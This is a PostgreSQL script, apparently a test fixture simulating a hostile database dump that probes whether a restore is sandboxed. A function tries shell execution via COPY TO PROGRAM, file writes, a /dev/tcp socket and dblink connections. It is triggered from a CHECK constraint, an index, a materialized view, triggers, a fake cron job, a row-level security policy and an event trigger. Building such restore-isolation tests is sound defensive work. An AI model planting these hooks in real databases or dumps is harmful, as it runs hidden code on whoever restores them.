-- What the owner of a database could leave behind for whoever restores it. :outside is a folder that everybody may write
-- to, :port a TCP port and :socket a folder with a unix socket; each attempt swallows its own failure and goes on.
CREATE TABLE public.attempts (id serial PRIMARY KEY, what text NOT NULL);
CREATE FUNCTION public.reach(what text) RETURNS boolean LANGUAGE plpgsql AS $f$
BEGIN
    BEGIN PERFORM set_config('role', 'none', false); EXCEPTION WHEN OTHERS THEN NULL; END;
    BEGIN EXECUTE format('COPY (SELECT 1) TO PROGRAM %L', 'touch :outside/program-' || what); EXCEPTION WHEN OTHERS THEN NULL; END;
    BEGIN EXECUTE format('COPY (SELECT 1) TO %L', ':outside/file-' || what); EXCEPTION WHEN OTHERS THEN NULL; END;
    BEGIN EXECUTE format('COPY (SELECT 1) TO PROGRAM %L', 'exec 3<>/dev/tcp/127.0.0.1/:port'); EXCEPTION WHEN OTHERS THEN NULL; END;
    BEGIN PERFORM public.dblink_connect(what || '-tcp', 'host=127.0.0.1 port=:port connect_timeout=2 user=x dbname=x password=x'); EXCEPTION WHEN OTHERS THEN NULL; END;
    BEGIN PERFORM public.dblink_connect(what || '-unix', 'host=:socket port=5432 connect_timeout=2 user=x dbname=x password=x'); EXCEPTION WHEN OTHERS THEN NULL; END;
    RETURN true;
END $f$;
CREATE TABLE public.checked (id int CHECK (public.reach('check')), note text);
INSERT INTO public.checked VALUES (1, 'quiet');
CREATE FUNCTION public.indexed(id int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $f$ BEGIN PERFORM public.reach('index'); RETURN id; END $f$;
CREATE INDEX by_function ON public.checked (public.indexed(id));
CREATE MATERIALIZED VIEW public.seen AS SELECT id, public.reach('matview') AS reached FROM public.checked;
CREATE FUNCTION public.on_row() RETURNS trigger LANGUAGE plpgsql AS $f$ BEGIN PERFORM public.reach('trigger'); RETURN NEW; END $f$;
CREATE TRIGGER on_row BEFORE INSERT ON public.checked FOR EACH ROW EXECUTE FUNCTION public.on_row();
ALTER TABLE public.checked ENABLE ALWAYS TRIGGER on_row;
CREATE SCHEMA cron;
CREATE TABLE cron.job (jobid int PRIMARY KEY, schedule text, command text, active boolean);
INSERT INTO cron.job VALUES (1, '* * * * *', 'SELECT public.reach(''job'')', true);
CREATE FUNCTION public.sees(text) RETURNS boolean LANGUAGE plpgsql AS $f$ BEGIN PERFORM public.reach('policy'); RETURN true; END $f$;
ALTER TABLE public.checked ENABLE ROW LEVEL SECURITY;
CREATE POLICY peeping ON public.checked USING (public.sees(note));
CREATE FUNCTION public.on_ddl() RETURNS event_trigger LANGUAGE plpgsql AS $f$ BEGIN PERFORM public.reach('event'); END $f$;
CREATE EVENT TRIGGER on_ddl ON ddl_command_end EXECUTE FUNCTION public.on_ddl();
COMMENT ON TABLE public.checked IS 'the event trigger has seen this';
